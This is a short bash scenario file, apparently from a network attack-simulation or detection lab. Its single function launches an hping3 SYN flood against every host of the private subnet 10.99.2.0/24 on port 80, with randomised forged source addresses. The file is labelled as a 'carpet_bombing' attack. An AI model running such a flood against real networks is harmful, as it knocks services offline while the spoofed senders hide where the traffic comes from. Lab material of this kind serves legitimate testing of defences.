# shellcheck shell=bash
# about: SYN to all hosts of a network, forged senders (hping3)
# type: attack
# kind: carpet_bombing syn_flood
# target: 10.99.2.0/24
# source: attacker
# tools: hping3
play() {
	flood attacker 10.99.2.x -S -p 80 -I eth0 --rand-dest --rand-source
}
